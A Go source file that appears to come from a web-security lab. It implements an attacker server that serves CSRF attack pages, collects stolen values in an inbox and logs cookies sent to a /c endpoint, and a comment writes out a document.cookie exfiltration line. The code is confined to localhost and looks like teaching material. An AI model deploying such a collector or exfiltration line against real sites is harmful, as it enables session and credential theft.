package attacker

import (
	"bytes"
	"embed"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"

	"statelab/api/bilingual"
	"statelab/api/web"
)

// A Victim is the server that the attacker goes for, and what is known of it.
type Victim struct {
	Origin             string // by the name that its users open it with
	Targets            []Target
	Username, Password string // an account of the attacker's own there
}

// A Target is one strategy of the victim's.
type Target struct {
	Slug string
	Form bool // it has a page with a form to sign in with
}

//go:embed *.html *.js *.css
var files embed.FS

var pages = bilingual.Pages(files, "*.html")

// shown is what a page is made of.
type shown struct {
	Victim
	Language string
	Path     string  // of the page
	Here     string  // the origin that the visitor has come to
	There    string  // the other one
	SameSite bool    // whether Here is of the victim's site
	Entries  []Entry // of the inbox
}

// Against returns the attacker's pages, aimed at a victim. They answer to the two
// names of this machine alone: to a page of a foreign name (DNS rebinding) the
// inbox would be readable. Nor do they answer through a proxy or a tunnel, which may
// say in Host what it likes, and whose other end may be anywhere.
func (a *Attacker) Against(v Victim) http.Handler {
	mux := http.NewServeMux()
	for path, name := range map[string]string{"/{$}": "index.html", "/csrf": "csrf.html", "/try": "try.html", "/inbox": "inbox.html"} {
		mux.HandleFunc("GET "+path, a.page(v, name))
	}
	const script, styles = "text/javascript", "text/css"
	for name, contentType := range map[string]string{"x.js": script, "csrf.js": script, "try.js": script, "page.css": styles} {
		mux.HandleFunc("GET /"+name, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", contentType+"; charset=utf-8")
			http.ServeFileFS(w, r, files, name)
		})
	}
	mux.HandleFunc("POST /inbox", a.post(v))
	mux.HandleFunc("GET /c", a.collect)
	// What the attacker's own page asks for is asked by no other.
	mux.Handle("POST /inbox/empty", http.NewCrossOriginProtection().Handler(http.HandlerFunc(a.empty)))

	policy := "default-src 'none'; script-src 'self'; style-src 'self'; img-src data: " + v.Origin + "; connect-src " + v.Origin +
		"; form-action 'self' " + v.Origin + "; base-uri 'none'; frame-ancestors 'none'"
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !slices.Contains(a.Origins(), "http://"+r.Host) {
			http.Error(w, "Open it as "+strings.Join(a.Origins(), " or ")+".", http.StatusMisdirectedRequest)
			return
		}
		if isForwarded(r.Header) {
			http.Error(w, "Open the page without a proxy.", http.StatusMisdirectedRequest)
			return
		}
		h := w.Header()
		h.Set("Content-Security-Policy", policy)
		h.Set("X-Content-Type-Options", "nosniff")
		h.Set("Cache-Control", "no-store") // stolen values are on these pages
		mux.ServeHTTP(w, r)
	})
}

func isForwarded(h http.Header) bool {
	for name := range h {
		if name == "Forwarded" || name == "Via" || strings.HasPrefix(name, "X-Forwarded-") {
			return true
		}
	}
	return false
}

// page answers with a page, in the language of the query's lang or else of the
// browser.
func (a *Attacker) page(v Victim, name string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		language := r.URL.Query().Get("lang")
		if !slices.Contains(bilingual.Languages, language) {
			language = web.Language(r.Header.Get("Accept-Language"))
		}
		number, named := a.Origins()[0], a.Origins()[1]
		s := shown{Victim: v, Language: language, Path: r.URL.Path, Here: number, There: named, Entries: a.Entries()}
		if "http://"+r.Host == named {
			// A scheme makes another site, too ("schemeful same-site").
			s.Here, s.There, s.SameSite = named, number, strings.HasPrefix(v.Origin, "http://")
		}
		var b bytes.Buffer
		if err := pages[language].ExecuteTemplate(&b, name, s); err != nil {
			http.Error(w, "The server could not make the page.", http.StatusInternalServerError)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Add("Vary", "Accept-Language")
		_, _ = b.WriteTo(w)
	}
}

// maxPost bounds a message to the inbox, in bytes. JSON may need six for one.
const maxPost = 6*MaxValue + 1<<10

// post takes what x.js sends. The type is not looked at: a page that may not ask
// for leave sends text/plain.
func (a *Attacker) post(v Victim) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		var in struct{ Strategy, Kind, Value string }
		text, err := io.ReadAll(http.MaxBytesReader(w, r.Body, maxPost))
		if err != nil {
			http.Error(w, "The body is too large.", http.StatusRequestEntityTooLarge)
			return
		}
		known := func(t Target) bool { return t.Slug == in.Strategy }
		if json.Unmarshal(text, &in) != nil || !slices.Contains(Kinds, in.Kind) || in.Strategy != "" && !slices.ContainsFunc(v.Targets, known) {
			http.Error(w, `Send {"strategy","kind","value"}.`, http.StatusBadRequest)
			return
		}
		a.receive(in.Strategy, in.Kind, in.Value)
		w.WriteHeader(http.StatusNoContent)
	}
}

// collect takes what stands behind the question mark, for scripts that have no
// room for more than fetch('//127.0.0.1:9090/c?'+document.cookie).
func (a *Attacker) collect(w http.ResponseWriter, r *http.Request) {
	value, err := url.QueryUnescape(r.URL.RawQuery)
	if err != nil {
		value = r.URL.RawQuery
	}
	if value != "" {
		a.receive("", "query", value)
	}
	w.WriteHeader(http.StatusNoContent)
}

func (a *Attacker) empty(w http.ResponseWriter, r *http.Request) {
	a.Empty()
	http.Redirect(w, r, "/inbox", http.StatusSeeOther)
}
